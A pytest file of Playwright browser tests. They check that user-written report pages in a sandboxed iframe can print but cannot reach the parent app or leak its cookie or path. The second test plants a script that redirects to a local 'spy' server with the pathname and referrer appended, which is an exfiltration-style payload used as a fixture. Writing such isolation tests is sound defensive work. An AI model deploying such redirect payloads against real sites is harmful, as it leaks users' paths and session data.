"""Pages that commands wrote, inside pages of the desk, in a real browser."""

from __future__ import annotations

import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from app.conftest import RunningDesk
from app.test_app_release import audited

pytestmark = pytest.mark.slow


def test_the_framed_page_can_be_printed_and_reaches_nothing_of_the_desk(browser: Any, desk: RunningDesk) -> None:
    audit = audited(desk.folder, "shop")
    audit.report(desk.folder / "shop.html", verdicts=[("delta", audit.verdict(epsilon=1.0, delta=0.5))])
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(desk.address)
        page.goto(desk.at("/audits/shop/decision"))
        frame = page.frame_locator("#report")
        frame.locator("h1").wait_for()
        inner = next(frame for frame in page.frames if "written" in frame.url)
        inner.wait_for_function("() => document.readyState === 'complete'")
        inner.evaluate("() => { window.print = () => { window.printed = true; }; }")
        page.click("[data-print]")
        inner.wait_for_function("() => window.printed")
        inner.evaluate("() => { window.printed = false; }")
        page.keyboard.press("Control+p")
        inner.wait_for_function("() => window.printed")
        assert inner.evaluate("() => window.origin") == "null"
        assert inner.evaluate("() => { try { return parent.document.title; } catch { return 'closed'; } }") == "closed"
        reached = "() => fetch('/').then(() => 'open', () => 'closed')"
        assert inner.evaluate(reached) == "closed"
        page.emulate_media(media="print")
        to_press = "a.button, button, input, select, textarea, nav, iframe, .slider, .tools"
        assert page.locator(to_press).locator("visible=true").count() == 0
        assert page.locator(".on-paper").is_visible()
        page.goto(inner.url)  # by itself
        assert page.locator(to_press).locator("visible=true").count() == 0
        assert page.locator(".sign").is_visible()
        paper = page.pdf(prefer_css_page_size=True)  # as somebody does who saves it
        assert len(re.findall(rb"/Type /Page\b", paper)) == 2
    finally:
        context.close()


def test_another_program_of_this_machine_gets_neither_the_cookie_nor_the_path(browser: Any, desk: RunningDesk) -> None:
    """Not when its own page is opened, nor from a report, opened by itself, that goes there and tells its address."""
    told: list[tuple[str, str]] = []

    class Spy(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            told.append((self.path, self.headers.get("Cookie", "")))
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>spy</title>")

        def log_message(self, *_: Any) -> None:
            pass

    spy = ThreadingHTTPServer(("127.0.0.1", 0), Spy)
    threading.Thread(target=spy.serve_forever, daemon=True).start()
    audited(desk.folder, "spied")
    there = f"http://127.0.0.1:{spy.server_port}"
    script = f"<script>location = '{there}' + location.pathname + '#' + document.referrer</script>"
    (desk.folder / "spied.html").write_text(script, encoding="utf-8")
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(desk.address)
        page.goto(desk.at("/audits/spied/decision"))
        with context.expect_page() as opened:
            page.click("a[target=_blank]")
        opened.value.wait_for_url(f"{there}/**")
        root = desk.at("")[len(f"http://127.0.0.1:{desk.port}") :]
        assert root not in opened.value.url
        for path in ("/", told[0][0], "/new"):
            opened.value.goto(there + path)
            opened.value.evaluate("path => fetch(path).then(() => true)", path)  # the same site, to a browser
        assert len(told) >= 7
        assert not [cookie for _, cookie in told if cookie]
        assert not [path for path, _ in told if root in path]
        opened.value.goto(there + root + "/")
        assert "empriv-app" in dict(told)[f"{root}/"]  # whoever knew the path would get it
    finally:
        context.close()
        spy.shutdown()
        spy.server_close()
